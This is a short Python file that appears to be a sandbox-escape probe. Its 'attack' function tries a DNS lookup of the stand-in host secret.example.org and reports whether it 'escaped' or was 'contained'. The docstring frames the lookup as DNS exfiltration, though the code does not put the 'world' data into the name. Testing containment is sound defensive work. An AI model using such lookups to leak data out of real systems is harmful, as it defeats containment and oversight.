"""Sends what it knows as part of a name to look up."""

import socket


def attack(world: dict[str, str]) -> str:
    try:
        return f"escaped: {socket.getaddrinfo('secret.example.org', 80)}"
    except OSError as error:
        return f"contained: {type(error).__name__}"
